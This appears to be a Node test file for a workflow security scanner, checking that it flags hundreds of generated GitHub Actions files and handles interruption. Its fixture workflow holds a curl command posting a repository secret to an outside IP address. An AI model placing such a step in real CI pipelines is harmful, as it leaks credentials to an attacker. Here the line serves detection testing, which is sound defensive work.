import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { availableParallelism, tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { setImmediate as turn } from 'node:timers/promises'

const program = join(import.meta.dirname, '../bin/holdfast-scan.js')
const root = mkdtempSync(join(tmpdir(), 'holdfast-many-'))
after(() => rmSync(root, { recursive: true }))

/** More files than one thread is left to read. */
const COUNT = 450
const steal = (at: number) =>
  `on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          curl -d "\${{ secrets.TOKEN_${at} }}" http://198.51.100.7/x\n`

function repositories(name: string, textOf: (at: number) => string): string {
  for (let at = 0; at < COUNT; at++) {
    const workflows = join(root, name, `r${at}/.github/workflows`)
    mkdirSync(workflows, { recursive: true })
    writeFileSync(join(workflows, 'w.yml'), textOf(at))
  }
  return join(root, name)
}

const start = (folder: string) => spawn(process.execPath, [program, '--format', 'json', folder], { stdio: ['ignore', 'pipe', 'inherit'] })

test('of hundreds of repositories every one is judged, the worst first, and then by path', async () => {
  const child = start(repositories('many', steal))
  const chunks: Buffer[] = []
  child.stdout.on('data', (chunk: Buffer) => chunks.push(chunk))
  const [code] = await once(child, 'close')
  assert.equal(code, 12)
  const report = JSON.parse(Buffer.concat(chunks).toString('utf8')) as {
    files: { path: string }[]
    findings: { verdict: string; place: { path: string }; secrets: string[]; fingerprint: string }[]
  }
  const malicious = report.findings.filter(({ verdict }) => verdict === 'malicious')
  assert.deepEqual(new Set(malicious.flatMap(({ secrets }) => secrets)), new Set(Array.from({ length: COUNT }, (_, at) => `TOKEN_${at}`)))
  assert.equal(report.findings[0]?.verdict, 'malicious')
  const paths = malicious.map(({ place }) => place.path)
  assert.deepEqual(paths, paths.toSorted())
  assert.equal(report.files.length, COUNT)
  for (const { fingerprint } of report.findings) assert.match(fingerprint, /^[0-9a-f]{32}$/)
})

/** The names of its threads, by which the scanning ones are told from those of Node. */
const threadsOf = (pid: number) => readdirSync(`/proc/${pid}/task`).map((id) => readFileSync(`/proc/${pid}/task/${id}/comm`, 'utf8').trim())

const isLinux = process.platform === 'linux' && availableParallelism() > 1
test('who interrupts it while its threads work waits for none of them, and is not told that all is well', {
  skip: !isLinux && 'threads are seen on Linux with two processors: run it there',
}, async () => {
  const long = (at: number) => steal(at) + `          echo "$A${at}" | tr a b\n`.repeat(300)
  const child = start(repositories('long', long))
  child.stdout.resume()
  while (child.exitCode === null && !threadsOf(child.pid as number).some((name) => name === 'scan-thread')) await turn()
  assert.equal(child.exitCode, null, 'it ended before it was interrupted')
  child.kill('SIGINT')
  const [code, signal] = await once(child, 'exit')
  assert.ok(signal === 'SIGINT' || code === 130, `${code} ${signal}`)
})
